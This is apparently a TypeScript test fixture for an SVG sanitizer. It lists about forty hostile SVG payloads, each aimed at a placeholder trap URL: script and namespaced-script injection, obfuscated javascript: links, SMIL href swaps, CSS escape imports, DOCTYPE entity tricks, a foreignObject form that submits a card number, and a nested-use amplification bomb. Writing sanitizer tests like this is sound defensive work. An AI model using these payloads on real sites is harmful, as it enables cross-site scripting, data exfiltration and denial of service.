/**
 * Hostile requestor SVGs: each tries to run script, fetch, navigate or submit (to `TRAP`, replaced by an off-site
 * URL the test watches). Kinds from the issue (namespaced script and foreignObject, `>` inside an attribute, SMIL
 * on href, CSS escapes) plus encoding, entity, DOCTYPE, XML Events, XHTML, CSS and link tricks.
 */

const SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200" viewBox="0 0 200 200">';
const FULL_RECT = '<rect width="200" height="200" fill="#3366cc"/>';
const PAN = '5555444433332222';

function svg(inner: string, open = SVG_OPEN): string {
  return `${open}${inner}</svg>`;
}

export interface HostileSvg {
  id: string;
  /** The SVG with TRAP standing for the off-site URL. */
  body: (trap: string) => Buffer;
}

const text = (id: string, make: (trap: string) => string): HostileSvg => ({ id, body: (trap) => Buffer.from(make(trap), 'utf8') });

export const HOSTILE_SVGS: HostileSvg[] = [
  text('svg-script', (t) => svg(`${FULL_RECT}<script>fetch('${t}/script')</script>`)),
  text('svg-script-cdata', (t) => svg(`${FULL_RECT}<script><![CDATA[fetch('${t}/cdata')]]></script>`)),
  text('svg-script-external', (t) => svg(`${FULL_RECT}<script href="${t}/x.js"/>`)),
  text('svg-ns-script', (t) => svg(`${FULL_RECT}<s:script xmlns:s="http://www.w3.org/2000/svg">fetch('${t}/ns')</s:script>`)),
  text('svg-xhtml-script', (t) => svg(`${FULL_RECT}<h:script xmlns:h="http://www.w3.org/1999/xhtml">fetch('${t}/xhtml')</h:script>`)),
  text('svg-ns-foreign-form', (t) =>
    svg(
      `${FULL_RECT}<s:foreignObject xmlns:s="http://www.w3.org/2000/svg" width="200" height="200"><form xmlns="http://www.w3.org/1999/xhtml" action="${t}/submit" method="post">` +
        `<input name="pan" value="${PAN}"/><button style="width:200px;height:200px">go</button></form></s:foreignObject>`,
    ),
  ),
  text('svg-foreign-iframe', (t) => svg(`<foreignObject width="200" height="200"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${t}/iframe"/></foreignObject>`)),
  text('svg-foreign-meta-refresh', (t) =>
    svg(`<foreignObject width="200" height="200"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${t}/refresh"/></foreignObject>`),
  ),
  text('svg-gt-in-attribute', (t) => svg(`<rect title="a>b" width="200" height="200" onclick="fetch('${t}/gt')"/>`)),
  text('svg-onload-root', (t) => svg(FULL_RECT, SVG_OPEN.replace('<svg ', `<svg onload="fetch('${t}/onload')" `))),
  text('svg-onload-upper', (t) => svg(FULL_RECT, SVG_OPEN.replace('<svg ', `<svg ONLOAD="fetch('${t}/upper')" `))),
  text('svg-onclick', (t) => svg(`<rect width="200" height="200" onclick="location='${t}/click'"/>`)),
  text('svg-link-offsite', (t) => svg(`<a href="${t}/navigate">${FULL_RECT}</a>`)),
  text('svg-link-blank', (t) => svg(`<a href="${t}/popup" target="_blank">${FULL_RECT}</a>`)),
  text('svg-link-javascript', (t) => svg(`<a xlink:href="javascript:fetch('${t}/js')">${FULL_RECT}</a>`)),
  text('svg-link-entity-javascript', (t) => svg(`<a href="&#x6a;avascript:fetch('${t}/entity')">${FULL_RECT}</a>`)),
  text('svg-link-space-javascript', (t) => svg(`<a href="  javascript:fetch('${t}/space')">${FULL_RECT}</a>`)),
  text('svg-smil-set-href', (t) => svg(`<a href="#x"><set attributeName="href" to="javascript:fetch('${t}/set')"/>${FULL_RECT}</a>`)),
  text('svg-smil-animate-href', (t) => svg(`<a href="#x"><animate attributeName="href" values="${t}/animate" dur="0.01s" fill="freeze"/>${FULL_RECT}</a>`)),
  text('svg-smil-set-use', (t) => svg(`<use href="#r"><set attributeName="xlink:href" to="${t}/use.svg#r"/></use><rect id="r" width="9" height="9"/>`)),
  text('svg-image-offsite', (t) => svg(`<image href="${t}/image.png" width="200" height="200"/>`)),
  text('svg-use-offsite', (t) => svg(`<use href="${t}/sprite.svg#logo"/>`)),
  text('svg-feimage', (t) => svg(`<filter id="f"><feImage href="${t}/feimage.png"/></filter><rect width="200" height="200" filter="url(#f)"/>`)),
  text('svg-css-url', (t) => svg(`<rect width="200" height="200" style="fill:url(${t}/css#g)"/>`)),
  text('svg-css-escape-url', (t) => svg(`<rect width="200" height="200" style="fill:u\\72l(${t}/escape#g)"/>`)),
  text('svg-css-escape-import', (t) => svg(`<style>@\\69mport "${t}/escape-import.css";</style>${FULL_RECT}`)),
  text('svg-css-import', (t) => svg(`<style>@import url("${t}/import.css");</style>${FULL_RECT}`)),
  text('svg-css-background', (t) => svg(`<style>svg{background:url("${t}/background.png")}</style>${FULL_RECT}`)),
  text('svg-css-font-face', (t) => svg(`<style>@font-face{font-family:x;src:url(${t}/font.woff)}text{font-family:x}</style><text y="50">x</text>`)),
  text('svg-css-comment-split', (t) => svg(`<rect width="200" height="200" style="fill:ur/**/l(${t}/comment#g)"/>`)),
  text('svg-presentation-url', (t) => svg(`<rect width="200" height="200" fill="url(${t}/fill#g)"/>`)),
  text('svg-xml-base', (t) => svg(`<g xml:base="${t}/"><image href="relative.png" width="200" height="200"/></g>`)),
  text('svg-xml-stylesheet', (t) => `<?xml-stylesheet type="text/css" href="${t}/pi.css"?>${svg(FULL_RECT)}`),
  text('svg-xslt', (t) => `<?xml-stylesheet type="text/xsl" href="${t}/x.xsl"?>${svg(FULL_RECT)}`),
  text('svg-doctype-entity-script', (t) =>
    `<!DOCTYPE svg [<!ENTITY s "&#60;script&#62;fetch('${t}/entity-script')&#60;/script&#62;">]>${svg(`${FULL_RECT}&s;`)}`,
  ),
  text('svg-doctype-system', (t) => `<!DOCTYPE svg SYSTEM "${t}/x.dtd">${svg(FULL_RECT)}`),
  text('svg-xml-events', (t) =>
    svg(`<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><handler id="h">fetch('${t}/ev')</handler>${FULL_RECT}`),
  ),
  text('svg-declared-latin1', (t) => `<?xml version="1.0" encoding="ISO-8859-1"?>${svg(`${FULL_RECT}<script>fetch('${t}/latin1')</script>`)}`),
  {
    id: 'svg-utf16',
    body: (t) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg(`${FULL_RECT}<script>fetch('${t}/utf16')</script>`), 'utf16le')]),
  },
  text('svg-use-amplification', () => {
    let defs = '<g id="l0"><rect width="1" height="1"/></g>';
    for (let level = 1; level <= 9; level++) defs += `<g id="l${level}">${Array.from({ length: 10 }, () => `<use href="#l${level - 1}"/>`).join('')}</g>`;
    return svg(`<defs>${defs}</defs><use href="#l9"/>`);
  }),
];

/** Tricky but harmless: must pass, rebuilt, and still draw (gradient by fragment, inline style, text). */
export const BENIGN_TRICKY_SVG = (): Buffer =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?><!-- editor comment --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">` +
      svg(
        '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>' +
          '<defs><linearGradient id="g"><stop offset="0" stop-color="#ff0000"/><stop offset="1" stop-color="#ff0000"/></linearGradient></defs>' +
          '<style>.a{fill:url(#g)}</style><rect class="a" width="200" height="200"/><text x="10" y="20" style="fill:#000">Wallet &amp; Co</text>',
      ),
    'utf8',
  );
